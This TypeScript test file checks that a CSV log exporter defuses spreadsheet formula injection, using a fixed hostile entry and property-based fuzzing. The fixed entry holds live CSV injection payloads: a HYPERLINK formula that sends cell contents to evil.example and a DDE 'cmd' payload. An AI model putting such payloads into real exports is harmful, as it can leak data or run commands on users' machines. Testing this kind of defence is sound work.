import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { LogEntry } from '../db/records';
import { plainLogEntry } from '@/testing/test-data';
import { logCsvColumns, logToCsv } from './csv';

/** RFC 4180 read back: quoted fields, doubled quotes, CRLF between rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let index = 0;
  while (index < text.length) {
    expect(text[index]).toBe('"');
    let field = '';
    index += 1;
    for (;;) {
      const quote = text.indexOf('"', index);
      field += text.slice(index, quote);
      index = quote + 1;
      if (text[index] !== '"') break;
      field += '"';
      index += 1;
    }
    row.push(field);
    if (text[index] === ',') {
      index += 1;
    } else {
      expect(text.slice(index, index + 2)).toBe('\r\n');
      index += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

const formulaStart = /^ *[=+\-@\t\r]/;

const entry = (fields: Partial<LogEntry>): LogEntry => ({ id: 1, ...plainLogEntry, ...fields });

// Strings rich in formula starts, spaces, quotes and line breaks.
const cell = fc.oneof(
  fc.string(),
  fc
    .tuple(fc.stringMatching(/^ {0,3}$/), fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', '\n', "'"), fc.string())
    .map((parts) => parts.join('')),
);

describe('the log as CSV', () => {
  it('writes nothing a spreadsheet would run as a formula, in any column', () => {
    const hostile = entry({
      reference: '=HYPERLINK("https://evil.example/?"&A1,"x")',
      title: '+1+cmd|"/C calc"!A0',
      targetName: '  -2+3',
      feedKey: '@SUM(A1)',
      itemId: '\t=1',
      actionKey: '\r=1',
    });
    const [, row] = parseCsv(logToCsv([hostile]));
    expect(row).toEqual([
      '2027-01-01T00:00:00.000Z',
      `'=HYPERLINK("https://evil.example/?"&A1,"x")`,
      `'+1+cmd|"/C calc"!A0`,
      `'  -2+3`,
      'email',
      '',
      "'@SUM(A1)",
      "'\t=1",
    ]);
  });

  it('starts no cell with a formula character, and reads back as written otherwise', () => {
    fc.assert(
      fc.property(
        fc.array(fc.record({ reference: cell, title: cell, targetName: cell, feedKey: cell, itemId: cell, at: cell }), { maxLength: 5 }),
        (fields) => {
          const rows = parseCsv(logToCsv(fields.map(entry)));
          expect(rows[0]).toEqual([...logCsvColumns]);
          expect(rows).toHaveLength(fields.length + 1);
          for (const [index, row] of rows.slice(1).entries()) {
            for (const field of row) expect(field).not.toMatch(formulaStart);
            const original = fields[index]!;
            // Each cell as written, with a `'` before it exactly when it would run.
            const expected = [
              original.at,
              original.reference,
              original.title,
              original.targetName,
              'email',
              '',
              original.feedKey,
              original.itemId,
            ];
            expect(row).toEqual(expected.map((field) => (formulaStart.test(field) ? `'${field}` : field)));
          }
        },
      ),
    );
  });
});
